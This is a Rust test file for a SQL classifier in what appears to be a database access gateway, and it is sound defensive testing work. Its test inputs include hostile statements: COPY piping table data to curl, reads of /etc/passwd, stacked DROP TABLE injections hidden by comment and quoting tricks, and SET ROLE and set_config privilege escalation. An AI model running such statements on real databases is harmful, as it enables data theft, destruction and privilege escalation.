//! Table-driven tests of `classify`: kinds, tables, functions, columns,
//! parameters, wrappers, and the obfuscation corpus.

use hoop_policy::{
    classify, ClassifyCache, CopyDirection, CopyTarget, Kind, Parameter, StatementFacts,
};

/// The most specific kind name of each statement; wrappers as `outer>inner`.
fn kinds(sql: &str) -> Vec<String> {
    classify(sql)
        .statements
        .iter()
        .map(|facts| {
            facts
                .levels()
                .map(|level| level.kind.names().last().cloned().unwrap_or_default())
                .collect::<Vec<_>>()
                .join(">")
        })
        .collect()
}

fn one(sql: &str) -> StatementFacts {
    let mut classified = classify(sql);
    assert_eq!(classified.statements.len(), 1, "{sql}: {classified:?}");
    classified.statements.remove(0)
}

fn tables(facts: &StatementFacts) -> Vec<String> {
    facts.tables.iter().map(|t| t.qualified()).collect()
}

#[test]
fn statement_kinds() {
    let cases: &[(&str, &[&str])] = &[
        ("SELECT 1", &["select"]),
        ("select * from payments where id = 1", &["select"]),
        ("VALUES (1), (2)", &["select"]),
        ("INSERT INTO payments (id) VALUES (1)", &["insert"]),
        ("UPDATE payments SET note = 'x' WHERE id = 1", &["update"]),
        ("DELETE FROM payments WHERE id = 1", &["delete"]),
        (
            "MERGE INTO payments p USING other o ON p.id = o.id WHEN MATCHED THEN DELETE",
            &["merge"],
        ),
        ("COPY payments TO STDOUT", &["copy_stdout"]),
        ("COPY payments FROM STDIN", &["copy_stdin"]),
        ("COPY payments TO PROGRAM 'curl -d @- x'", &["copy_program"]),
        ("copy (select 1) to '/tmp/x'", &["copy_file"]),
        ("COPY payments FROM '/etc/passwd'", &["copy_file"]),
        ("CREATE TABLE t (id int)", &["ddl_create_table"]),
        (
            "CREATE TABLE t AS SELECT * FROM payments",
            &["ddl_create_table"],
        ),
        ("SELECT * INTO t2 FROM payments", &["ddl_create_table"]),
        ("CREATE VIEW v AS SELECT 1", &["ddl_create_view"]),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            &["ddl_create_materialized_view"],
        ),
        ("CREATE INDEX ON payments (id)", &["ddl_create_index"]),
        (
            "ALTER TABLE payments DROP COLUMN note",
            &["ddl_alter_table"],
        ),
        ("DROP TABLE payments", &["ddl_drop_table"]),
        ("DROP DATABASE payments", &["ddl_drop_database"]),
        ("DROP SCHEMA s CASCADE", &["ddl_drop_schema"]),
        ("COMMENT ON TABLE payments IS 'x'", &["ddl_comment_table"]),
        (
            "CREATE FUNCTION f() RETURNS int AS $$ select 1 $$ LANGUAGE sql",
            &["ddl_create_function"],
        ),
        ("TRUNCATE payments", &["truncate"]),
        ("CREATE ROLE x LOGIN", &["create_role"]),
        ("CREATE USER u", &["create_role"]),
        ("ALTER ROLE x SUPERUSER", &["alter_role"]),
        ("DROP ROLE x", &["drop_role"]),
        ("GRANT SELECT ON payments TO x", &["grant"]),
        ("GRANT admin TO x", &["grant"]),
        ("REVOKE ALL ON payments FROM x", &["revoke"]),
        ("REASSIGN OWNED BY a TO b", &["owned_objects"]),
        ("ALTER SYSTEM SET work_mem = '1GB'", &["alter_system"]),
        ("SET ROLE postgres", &["set_role"]),
        ("RESET ROLE", &["set_role"]),
        ("SET \"role\" = postgres", &["set_role"]),
        (
            "set session authorization postgres",
            &["session_authorization"],
        ),
        ("RESET SESSION AUTHORIZATION", &["session_authorization"]),
        ("SET search_path = a, b", &["set"]),
        ("SET LOCAL statement_timeout = 5", &["set"]),
        ("RESET ALL", &["set"]),
        ("SET TIME ZONE 'UTC'", &["set"]),
        ("CREATE EXTENSION dblink", &["create_extension"]),
        ("LOAD 'auto_explain'", &["load"]),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE payments'; END $$", &["do"]),
        ("DO $x$ BEGIN PERFORM 1; END $x$", &["do"]),
        ("do language plpgsql $$ begin end $$", &["do"]),
        ("CALL proc(1)", &["call"]),
        ("PREPARE p AS DELETE FROM payments", &["prepare>delete"]),
        (
            "PREPARE p (int) AS SELECT * FROM payments WHERE id = $1",
            &["prepare>select"],
        ),
        ("EXECUTE p(1)", &["execute"]),
        ("DEALLOCATE p", &["deallocate"]),
        (
            "DECLARE c CURSOR FOR SELECT * FROM payments",
            &["declare_cursor>select"],
        ),
        ("FETCH 10 FROM c", &["cursor"]),
        ("CLOSE c", &["cursor"]),
        ("BEGIN", &["transaction"]),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            &["transaction"],
        ),
        ("COMMIT", &["transaction"]),
        ("ROLLBACK", &["transaction"]),
        ("SAVEPOINT a", &["transaction"]),
        ("EXPLAIN SELECT 1", &["explain>select"]),
        (
            "EXPLAIN ANALYZE DELETE FROM payments",
            &["explain_analyze>delete"],
        ),
        (
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM payments",
            &["explain_analyze>delete"],
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM payments",
            &["explain>delete"],
        ),
        ("SHOW work_mem", &["show"]),
        ("LISTEN ch", &["listen"]),
        ("NOTIFY ch, 'payload'", &["notify"]),
        ("UNLISTEN *", &["unlisten"]),
        ("DISCARD ALL", &["discard"]),
        ("LOCK TABLE payments", &["lock"]),
        ("VACUUM payments", &["maintenance"]),
        (
            "SELECT 1; DROP TABLE payments",
            &["select", "ddl_drop_table"],
        ),
        ("SELECT 1;;; SELECT 2;", &["select", "select"]),
        ("", &[]),
        ("  ;  -- only a comment\n ; /* and another */", &[]),
        ("CHECKPOINT", &["maintenance"]),
        ("TABLE payments", &["select"]),
        ("SELECT 'unterminated", &["unparsed"]),
        ("FROBNICATE", &["unparsed"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(kinds(sql), *expected, "{sql}");
    }
}

#[test]
fn obfuscation_does_not_change_the_kind() {
    let cases: &[(&str, &[&str])] = &[
        // A comment inside a keyword splits it, for PostgreSQL too.
        ("DR/**/OP TABLE payments", &["unparsed"]),
        (
            "/* /* nested */ */ drop table payments",
            &["ddl_drop_table"],
        ),
        ("dRoP TaBlE \"payments\"", &["ddl_drop_table"]),
        ("DROP\n--comment\nTABLE\tpayments", &["ddl_drop_table"]),
        ("select 1 /* ; drop table payments */", &["select"]),
        (
            "select 'a;b'; drop table payments",
            &["select", "ddl_drop_table"],
        ),
        (
            "select $q$ ; $q$; DROP DATABASE payments",
            &["select", "ddl_drop_database"],
        ),
        (
            "select E'\\x3b'; SET ROLE postgres",
            &["select", "set_role"],
        ),
        (
            "select U&'\\003b'; SET ROLE postgres",
            &["select", "set_role"],
        ),
        (
            "SELECT 1; ALTER SYSTEM SET x = 1",
            &["select", "alter_system"],
        ),
        ("SELECT 1; DO $$ BEGIN END $$", &["select", "do"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(kinds(sql), *expected, "{sql}");
    }
}

#[test]
fn tables_are_schema_qualified() {
    let facts = one("SELECT * FROM Payments p JOIN \"Other\" o ON true JOIN s.T3 ON true");
    assert_eq!(tables(&facts), ["public.payments", "public.Other", "s.t3"]);
    assert!(facts.tables[0].schema_assumed);
    assert!(!facts.tables[2].schema_assumed);

    let facts = one("SELECT * FROM db.sch.tab");
    assert_eq!(tables(&facts), ["sch.tab"]);

    // CTE names are not tables; what they read is.
    let facts = one("WITH recent AS (SELECT * FROM payments) SELECT * FROM recent");
    assert_eq!(tables(&facts), ["public.payments"]);

    // A function in FROM is a function, not a table.
    let facts = one("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)");
    assert!(facts.tables.is_empty(), "{facts:?}");
    assert_eq!(facts.functions, ["dblink"]);

    for (sql, expected) in [
        (
            "INSERT INTO payments (id) SELECT id FROM other",
            vec!["public.payments", "public.other"],
        ),
        (
            "UPDATE payments SET note = 'x' FROM other WHERE other.id = payments.id",
            vec!["public.payments", "public.other"],
        ),
        ("DELETE FROM s.payments", vec!["s.payments"]),
        ("COPY payments TO STDOUT", vec!["public.payments"]),
        (
            "TRUNCATE payments, other",
            vec!["public.payments", "public.other"],
        ),
        ("DROP TABLE payments", vec!["public.payments"]),
        ("CREATE INDEX i ON payments (id)", vec!["public.payments"]),
        (
            "SELECT (SELECT max(amount) FROM payments)",
            vec!["public.payments"],
        ),
    ] {
        let mut found = tables(&one(sql));
        found.sort();
        let mut expected: Vec<String> = expected.into_iter().map(String::from).collect();
        expected.sort();
        assert_eq!(found, expected, "{sql}");
    }
}

#[test]
fn functions_are_found_wherever_they_are_called() {
    let cases: &[(&str, &[&str])] = &[
        ("select pg_read_file('/etc/passwd')", &["pg_read_file"]),
        (
            "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
            &["pg_catalog.pg_read_file"],
        ),
        ("SELECT \"pg_read_file\"('/etc/passwd')", &["pg_read_file"]),
        (
            "SELECT upper(lower(pg_ls_dir('.')))",
            &["upper", "lower", "pg_ls_dir"],
        ),
        ("SELECT * FROM pg_ls_dir('.')", &["pg_ls_dir"]),
        (
            "SELECT 1 WHERE EXISTS (SELECT lo_export(1, '/tmp/x'))",
            &["lo_export"],
        ),
        (
            "COPY (SELECT pg_read_file('x')) TO STDOUT",
            &["pg_read_file"],
        ),
        ("CALL do_things()", &["do_things"]),
    ];
    for (sql, expected) in cases {
        let facts = one(sql);
        for function in *expected {
            assert!(
                facts.functions.iter().any(|f| f == function),
                "{sql}: {function} not in {:?}",
                facts.functions
            );
        }
    }
    let inner = one("PREPARE p AS SELECT pg_read_file('x')");
    assert_eq!(
        inner.inner.as_ref().map(|i| i.functions.clone()),
        Some(vec!["pg_read_file".to_owned()])
    );
}

#[test]
fn parameters_set() {
    let named = |name: &str| Parameter::Named(name.to_owned());
    let cases: Vec<(&str, Vec<Parameter>)> = vec![
        ("SET \"role\" = postgres", vec![named("role")]),
        ("SET ROLE postgres", vec![named("role")]),
        (
            "set session authorization postgres",
            vec![named("session_authorization")],
        ),
        ("SET hoop.session = 'abc'", vec![named("hoop.session")]),
        (
            "SET \"HOOP\".\"SESSION\" = 'abc'",
            vec![named("hoop.session")],
        ),
        ("RESET hoop.session", vec![named("hoop.session")]),
        (
            "SELECT set_config('role','postgres',false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config(E'r\\x6fle', 'postgres', false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config(U&'r\\006fle', 'postgres', false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config($$hoop.session$$, 'x', false)",
            vec![named("hoop.session")],
        ),
        (
            "SELECT pg_catalog.set_config('ROLE'::text, 'x', false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config('ro' || 'le', 'x', false)",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(new_value => 'x', is_local => false, setting_name => 'role')",
            vec![named("role")],
        ),
        (
            "SELECT * FROM set_config('role', 'x', false)",
            vec![named("role")],
        ),
        (
            "SELECT * FROM pg_catalog.set_config($1, 'x', false)",
            vec![Parameter::Bound(1)],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM t",
            vec![Parameter::Unknown],
        ),
        // pg_dump's way of setting a parameter the server may not have: the
        // WHERE keeps only that one's row.
        (
            "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings \
             WHERE name = 'restrict_nonsystem_relation_kind'",
            vec![named("restrict_nonsystem_relation_kind")],
        ),
        (
            "SELECT set_config(s.name, 'x', false) FROM pg_catalog.pg_settings s \
             WHERE 'ROLE'::text = s.name",
            vec![named("role")],
        ),
        (
            "SELECT pg_catalog.set_config(pg_catalog.pg_settings.name, 'x', false) \
             FROM pg_settings WHERE pg_settings.name = 'role'",
            vec![named("role")],
        ),
        // Any other shape could reach other rows.
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a' OR true",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'role'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a' || 'b'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings WHERE lower(name) = 'role'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'role'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM myschema.pg_settings WHERE name = 'a'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(s.name, 'x', false) FROM pg_settings s, pg_settings t \
             WHERE t.name = 'a'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(t.name, 'x', false) FROM pg_settings s WHERE s.name = 'a'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM pg_settings \
             WHERE name OPERATOR(public.=) 'a'",
            vec![Parameter::Unknown],
        ),
        // Rows of the gateway's choosing, not the catalog's.
        (
            "WITH pg_settings AS (SELECT 'role' AS name) \
             SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a'",
            vec![Parameter::Unknown],
        ),
        (
            "WITH pg_settings AS (SELECT 'role' AS name) SELECT 1 FROM (\
             SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a') s",
            vec![Parameter::Unknown],
        ),
        // A subquery's `name` is its own relation's.
        (
            "SELECT (SELECT set_config(name, 'x', false) FROM pg_settings LIMIT 1) \
             FROM pg_settings WHERE name = 'a'",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT (SELECT set_config(name, 'x', false)) FROM pg_settings WHERE name = 'a'",
            vec![Parameter::Unknown],
        ),
        (
            "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'",
            vec![Parameter::Unknown],
        ),
        (
            "DISCARD ALL",
            vec![named("session_authorization"), named("role"), named("all")],
        ),
        ("SET search_path = a", vec![named("search_path")]),
        ("SELECT 1", vec![]),
    ];
    for (sql, expected) in cases {
        assert_eq!(one(sql).parameters, expected, "{sql}");
    }
}

#[test]
fn columns_and_missing_where() {
    let facts = one("SELECT p.card_number, amount FROM payments p WHERE id = 1");
    assert!(facts.columns_read.contains(&"card_number".to_owned()));
    assert!(facts.columns_read.contains(&"amount".to_owned()));
    assert!(!facts.all_columns);
    assert!(one("SELECT * FROM payments").all_columns);
    assert!(one("SELECT p.* FROM payments p").all_columns);

    let update = one("UPDATE payments SET note = 'x', amount = 1");
    assert_eq!(update.columns_written, ["note", "amount"]);
    assert!(update.missing_where);
    assert!(!one("UPDATE payments SET note = 'x' WHERE id = 1").missing_where);
    assert!(one("DELETE FROM payments").missing_where);
    assert!(!one("DELETE FROM payments WHERE id = 1").missing_where);
    assert!(one("WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d").missing_where);

    let insert = one("INSERT INTO payments (id, card_number) VALUES (1, 'x')");
    assert_eq!(insert.columns_written, ["id", "card_number"]);
    assert!(one("INSERT INTO payments VALUES (1)").all_columns);
    assert!(one("COPY payments TO STDOUT").all_columns);
    let copy = one("COPY payments (id, note) TO STDOUT");
    assert!(!copy.all_columns);
    assert_eq!(copy.columns_read, ["id", "note"]);
}

#[test]
fn nested_data_modification_is_seen() {
    let facts = one("WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d");
    assert_eq!(facts.kind, Kind::Select);
    assert_eq!(facts.nested_kinds, [Kind::Delete]);
    assert_eq!(tables(&facts), ["public.payments"]);
}

#[test]
fn wrappers_expose_names_and_inner_statements() {
    let prepare = one("PREPARE \"Q1\" AS DELETE FROM payments");
    assert_eq!(
        prepare.kind,
        Kind::Prepare {
            name: "Q1".to_owned()
        }
    );
    assert_eq!(
        prepare.inner.as_ref().map(|i| i.kind.clone()),
        Some(Kind::Delete)
    );
    assert_eq!(
        one("EXECUTE Q1(1)").kind,
        Kind::Execute {
            name: "q1".to_owned()
        }
    );
    assert_eq!(one("DEALLOCATE ALL").kind, Kind::Deallocate { name: None });
    assert_eq!(
        one("DEALLOCATE PREPARE q").kind,
        Kind::Deallocate {
            name: Some("q".to_owned())
        }
    );
    assert_eq!(
        one("DECLARE c BINARY CURSOR WITH HOLD FOR SELECT card_number FROM payments").kind,
        Kind::DeclareCursor {
            name: "c".to_owned(),
            binary: true
        }
    );
    let copy = one("COPY payments TO PROGRAM 'x'");
    assert_eq!(
        copy.kind,
        Kind::Copy {
            direction: CopyDirection::To,
            target: CopyTarget::Program
        }
    );
    let unparsed = one("DR/**/OP TABLE payments");
    assert!(unparsed.unparsed_reason.is_some());
}

#[test]
fn predicate_bounds() {
    let interval = |sql: &str| one(sql).bounds.get("amount");
    let lower = |sql: &str| interval(sql).lower.map(|b| (b.value, b.inclusive));
    let upper = |sql: &str| interval(sql).upper.map(|b| (b.value, b.inclusive));

    assert_eq!(
        lower("SELECT * FROM payments WHERE amount > 20000"),
        Some((20000.0, false))
    );
    assert_eq!(
        lower("SELECT * FROM payments WHERE amount >= 10001"),
        Some((10001.0, true))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < 500"),
        Some((500.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE 500 > amount"),
        Some((500.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments p WHERE p.amount <= -5"),
        Some((-5.0, true))
    );
    assert_eq!(
        (
            lower("SELECT * FROM payments WHERE amount BETWEEN 15000 AND 30000"),
            upper("SELECT * FROM payments WHERE amount BETWEEN 15000 AND 30000")
        ),
        (Some((15000.0, true)), Some((30000.0, true)))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE id = 3 AND (amount < 500 AND amount < 100)"),
        Some((100.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount IN (1, 7, 3)"),
        Some((7.0, true))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < '500'"),
        Some((500.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < 500::numeric"),
        Some((500.0, false))
    );
    // Unbounded: OR, NOT, parameters, casts of the column, no WHERE.
    for sql in [
        "SELECT * FROM payments",
        "SELECT * FROM payments WHERE amount < 500 OR id = 1",
        "SELECT * FROM payments WHERE NOT amount > 500",
        "SELECT * FROM payments WHERE amount < $1",
        "SELECT * FROM payments WHERE amount::text < '5'",
        "SELECT * FROM payments WHERE amount NOT BETWEEN 1 AND 2",
        // A subquery with its own FROM and no bound reads without a bound.
        "SELECT * FROM payments WHERE amount < 500 AND id IN (SELECT id FROM payments)",
        "SELECT * FROM payments WHERE amount < 500 UNION SELECT * FROM payments",
    ] {
        assert_eq!(interval(sql), Default::default(), "{sql}");
    }
    // Both branches bounded: the hull.
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < 500 UNION SELECT * FROM payments WHERE amount < 700"),
        Some((700.0, false))
    );
}

#[test]
fn the_cache_returns_the_same_classification() {
    let mut cache = ClassifyCache::new(4);
    let first = cache.classify("SELECT 1");
    let again = cache.classify("SELECT 1");
    assert!(std::sync::Arc::ptr_eq(&first, &again));
    for i in 0..20 {
        cache.classify(&format!("SELECT {i}"));
    }
    assert!(cache.len() <= 4, "bounded: {}", cache.len());
    assert_eq!(*cache.classify("SELECT 1"), classify("SELECT 1"));
}

/// Statements PostgreSQL's regression suite sends that the sqlparser-based
/// classifier refused as "not understood": each must classify, with the
/// relations it names.
#[test]
fn postgres_grammar_statements_classify() {
    let cases: &[(&str, &str, &[&str])] = &[
        ("VACUUM ANALYZE t", "maintenance", &["public.t"]),
        ("TABLE t", "select", &["public.t"]),
        ("SELECT * FROM ONLY t", "select", &["public.t"]),
        ("SELECT * FROM a_star*", "select", &["public.a_star"]),
        ("SELECT ROW(1, 2)", "select", &[]),
        (
            "INSERT INTO t (a[1:5]) VALUES ('{1,2,3,4,5}')",
            "insert",
            &["public.t"],
        ),
        ("UPDATE t SET j['a'] = '1' WHERE id = 1", "update", &["public.t"]),
        ("PREPARE TRANSACTION 'gx'", "transaction", &[]),
        ("COMMIT PREPARED 'gx'", "transaction", &[]),
        ("SET CONSTRAINTS ALL DEFERRED", "transaction", &[]),
        ("REFRESH MATERIALIZED VIEW mv", "maintenance", &["public.mv"]),
        ("REINDEX TABLE t", "maintenance", &["public.t"]),
        ("CLUSTER t USING t_pkey", "maintenance", &["public.t"]),
        (
            "ALTER TABLE parent ATTACH PARTITION child FOR VALUES FROM (1) TO (10)",
            "ddl_alter_table",
            &["public.parent", "public.child"],
        ),
        (
            "ALTER TABLE t ALTER CONSTRAINT c DEFERRABLE",
            "ddl_alter_table",
            &["public.t"],
        ),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION trf()",
            "ddl_create_trigger",
            &["public.t"],
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM payments",
            "ddl_create_other",
            &["public.t", "public.payments"],
        ),
        (
            "CREATE AGGREGATE mysum (int) (sfunc = int4pl, stype = int)",
            "ddl_create_function",
            &[],
        ),
        (
            "CREATE STATISTICS s (dependencies) ON a, b FROM t",
            "ddl_create_other",
            &["public.t"],
        ),
        ("COMMENT ON COLUMN t.a IS 'x'", "ddl_comment_other", &[]),
        ("COMMENT ON TABLE t IS 'x'", "ddl_comment_table", &["public.t"]),
        (
            "CREATE INDEX brin_idx ON brintest USING brin (int8col int8_minmax_multi_ops(values_per_range = 7))",
            "ddl_create_index",
            &["public.brintest"],
        ),
        ("SELECT xmlelement(name foo, xmlattributes('x' AS bar))", "select", &[]),
        (
            "CREATE PUBLICATION pub FOR TABLE payments",
            "ddl_create_other",
            &["public.payments"],
        ),
        ("ALTER PUBLICATION pub ADD TABLE t", "ddl_alter_other", &["public.t"]),
        ("DROP PUBLICATION pub", "ddl_drop_other", &[]),
        ("GRANT SELECT ON t TO r", "grant", &["public.t"]),
        ("ANALYZE t (a)", "maintenance", &["public.t"]),
        ("SELECT * FROM t TABLESAMPLE SYSTEM (50)", "select", &["public.t"]),
        ("CREATE TYPE complex AS (r float8, i float8)", "ddl_create_type", &[]),
        ("CREATE TABLE p (a int) PARTITION BY RANGE (a)", "ddl_create_table", &["public.p"]),
        ("DEALLOCATE ALL", "deallocate", &[]),
        ("LOCK TABLE t IN SHARE MODE", "lock", &["public.t"]),
        ("SELECT 1 FOR UPDATE", "select", &[]),
        ("IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "ddl_create_other", &[]),
    ];
    for (sql, kind, expected_tables) in cases {
        let facts = one(sql);
        assert_eq!(
            facts.kind.names().last().map(String::as_str),
            Some(*kind),
            "{sql}: {facts:?}"
        );
        let found = tables(&facts);
        for table in *expected_tables {
            assert!(
                found.iter().any(|t| t == table),
                "{sql}: {table} not in {found:?}"
            );
        }
        assert!(facts.syntax_error.is_none(), "{sql}");
    }
}

#[test]
fn create_rule_and_trigger_expose_what_they_run() {
    let rule = one("CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT pg_read_file('x')");
    assert!(
        rule.functions.contains(&"pg_read_file".to_owned()),
        "{rule:?}"
    );
    let rule = one("CREATE RULE r AS ON INSERT TO t DO ALSO UPDATE payments SET note = 'x'");
    assert_eq!(rule.nested_kinds, [Kind::Update]);
    assert!(rule.missing_where);
    let trigger = one(
        "CREATE TRIGGER tr AFTER UPDATE ON t FOR EACH ROW WHEN (pg_read_file('x') IS NULL) EXECUTE FUNCTION leak()",
    );
    assert!(
        trigger.functions.contains(&"leak".to_owned()),
        "{trigger:?}"
    );
    assert!(
        trigger.functions.contains(&"pg_read_file".to_owned()),
        "{trigger:?}"
    );
    // Calls anywhere in the tree are found, however deep.
    for sql in [
        "SELECT 1 LIMIT (SELECT length(pg_read_file('x')))",
        "SELECT * FROM t ORDER BY pg_read_file('x')",
        "SELECT 1 FROM t GROUP BY 1 HAVING count(pg_read_file('x')) > 0",
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = pg_read_file('x')",
        "DELETE FROM t RETURNING pg_read_file('x')",
        "EXECUTE p(pg_read_file('x'))",
        "CALL p(pg_read_file('x'))",
        "SELECT xmlelement(name x, pg_read_file('x'))",
        "SELECT (pg_read_file('x')).*",
        "VALUES (pg_read_file('x'))",
    ] {
        let facts = one(sql);
        assert!(
            facts
                .levels()
                .any(|level| level.functions.contains(&"pg_read_file".to_owned())),
            "{sql}: {facts:?}"
        );
    }
}

#[test]
fn syntax_errors_carry_the_servers_message_and_position() {
    let classified = classify("SELECT 1; FROBNICATE payments");
    // The server parses the whole string first: nothing of it runs.
    assert_eq!(classified.statements.len(), 1);
    let error = classified.syntax_error().expect("a syntax error");
    assert_eq!(error.message, "syntax error at or near \"FROBNICATE\"");
    assert_eq!(error.position, Some(11));
    let error = classify("SELECT 'unterminated")
        .syntax_error()
        .cloned()
        .expect("error");
    assert!(
        error.message.contains("unterminated quoted string"),
        "{error:?}"
    );
    assert_eq!(error.position, Some(8));
    // Positions count characters, as the server's do.
    let error = classify("SELECT 'é' FROM")
        .syntax_error()
        .cloned()
        .expect("error");
    assert_eq!(error.position, Some(16), "{error:?}");
}

#[test]
fn bounds_belong_to_the_relation_they_name() {
    let facts =
        one("SELECT max(p.amount) FROM payments p, (VALUES (1)) x(amount) WHERE x.amount < 5");
    assert_eq!(
        facts.bounds.of("public.payments", "amount"),
        Default::default()
    );
    let facts =
        one("SELECT max(p.amount) FROM payments p, (VALUES (1)) x(amount) WHERE p.amount < 5");
    assert!(facts.bounds.of("public.payments", "amount").upper.is_some());
    // Unqualified with two FROM items: whose column it is depends on the
    // catalog, so it bounds neither.
    let facts = one("SELECT * FROM payments p, other o WHERE amount < 5");
    assert_eq!(
        facts.bounds.of("public.payments", "amount"),
        Default::default()
    );
    // A bound on another relation's subquery does not leave payments unbounded.
    let facts = one("SELECT * FROM payments WHERE amount < 500 AND id IN (SELECT id FROM other)");
    assert!(facts.bounds.of("public.payments", "amount").upper.is_some());
    // A CTE of the same name is not the table; a CTE body reading it is.
    let facts =
        one("WITH payments AS (SELECT * FROM payments) SELECT * FROM payments WHERE amount < 5");
    assert_eq!(
        facts.bounds.of("public.payments", "amount"),
        Default::default()
    );
    assert_eq!(tables(&facts), ["public.payments"]);
    // A CTE's name does not hide the table outside the CTE's statement.
    let facts =
        one("SELECT * FROM (WITH payments AS (SELECT 1) SELECT * FROM payments) x, payments");
    assert_eq!(tables(&facts), ["public.payments"]);
    // UPDATE/DELETE targets are bound by their WHERE.
    let facts = one("DELETE FROM payments WHERE amount > 5");
    assert!(facts.bounds.of("public.payments", "amount").lower.is_some());
    // table_to_xml reads the whole table: no bound.
    let facts = one("SELECT table_to_xml('public.payments', true, false, '')");
    assert_eq!(tables(&facts), ["public.payments"]);
    assert!(facts.all_columns);
    let facts = one("SELECT table_to_xml('\"Payments\"'::regclass, true, false, '') FROM payments WHERE amount < 5");
    let mut found = tables(&facts);
    found.sort();
    assert_eq!(found, ["public.Payments", "public.payments"]);
}

#[test]
fn the_cache_reuses_shapes_but_not_literal_dependent_facts() {
    let mut cache = ClassifyCache::new(64).with_predicate_columns(["amount"]);
    cache.classify("SELECT id FROM t WHERE id = 1");
    let shapes = cache.shapes();
    cache.classify("SELECT id FROM t WHERE name = 'x'");
    assert_eq!(cache.classify("SELECT 1").statements[0].kind, Kind::Select);
    // Bounds are read from literals: each statement gets its own.
    let low = cache.classify("SELECT * FROM payments WHERE amount < 5");
    let high = cache.classify("SELECT * FROM payments WHERE amount < 50000");
    assert_eq!(
        low.statements[0]
            .bounds
            .get("amount")
            .upper
            .map(|b| b.value),
        Some(5.0)
    );
    assert_eq!(
        high.statements[0]
            .bounds
            .get("amount")
            .upper
            .map(|b| b.value),
        Some(50000.0)
    );
    // set_config's parameter name is a literal too.
    let harmless = cache.classify("SELECT set_config('application_name', 'x', false)");
    let role = cache.classify("SELECT set_config('role', 'x', false)");
    assert_eq!(
        harmless.statements[0].parameters,
        [Parameter::Named("application_name".to_owned())]
    );
    assert_eq!(
        role.statements[0].parameters,
        [Parameter::Named("role".to_owned())]
    );
    let explain = cache.classify("EXPLAIN (ANALYZE false) DELETE FROM t");
    let analyze = cache.classify("EXPLAIN (ANALYZE true) DELETE FROM t");
    assert_eq!(explain.statements[0].kind, Kind::Explain { analyze: false });
    assert_eq!(analyze.statements[0].kind, Kind::Explain { analyze: true });
    // Statements of one shape without literal-dependent facts share one entry.
    let before = cache.shapes();
    let a = cache.classify("SELECT id FROM t WHERE id = 41");
    let b = cache.classify("SELECT id FROM t WHERE id = 42");
    assert!(std::sync::Arc::ptr_eq(&a, &b));
    assert!(cache.shapes() >= shapes && cache.shapes() <= before + 1);
    // Bounds on columns no rule reads are not kept for the shape.
    assert_eq!(
        a.statements[0].bounds.of("public.t", "id"),
        Default::default()
    );
    // Without the rule set's columns, every bound counts.
    let mut strict = ClassifyCache::new(64);
    let a = strict.classify("SELECT id FROM t WHERE id = 41");
    let b = strict.classify("SELECT id FROM t WHERE id = 42");
    assert!(!std::sync::Arc::ptr_eq(&a, &b));
}

/// A number beyond `f64` bounds nothing where a smaller one of the same
/// shape would: neither classification is carried to the other.
#[test]
fn a_number_too_large_to_bound_is_not_carried_to_its_shape() {
    let huge = "SELECT * FROM payments WHERE amount > 1e999";
    let large = "SELECT * FROM payments WHERE amount > 5000.0";
    assert_ne!(classify(huge), classify(large));
    for (first, second) in [(huge, large), (large, huge)] {
        let mut cache = ClassifyCache::new(64).with_predicate_columns(["amount"]);
        cache.classify(first);
        assert_eq!(
            *cache.classify(second),
            classify(second),
            "{second} after {first}"
        );
    }
}

#[test]
fn the_cache_shares_a_shape_across_numbers_that_decide_nothing() {
    let mut cache = ClassifyCache::new(64).with_predicate_columns(["amount"]);
    for texts in [
        // pgbench -S.
        [
            "SELECT abalance FROM pgbench_accounts WHERE aid = 12345;",
            "SELECT abalance FROM pgbench_accounts WHERE aid = 67890;",
        ],
        [
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 5, -12, CURRENT_TIMESTAMP)",
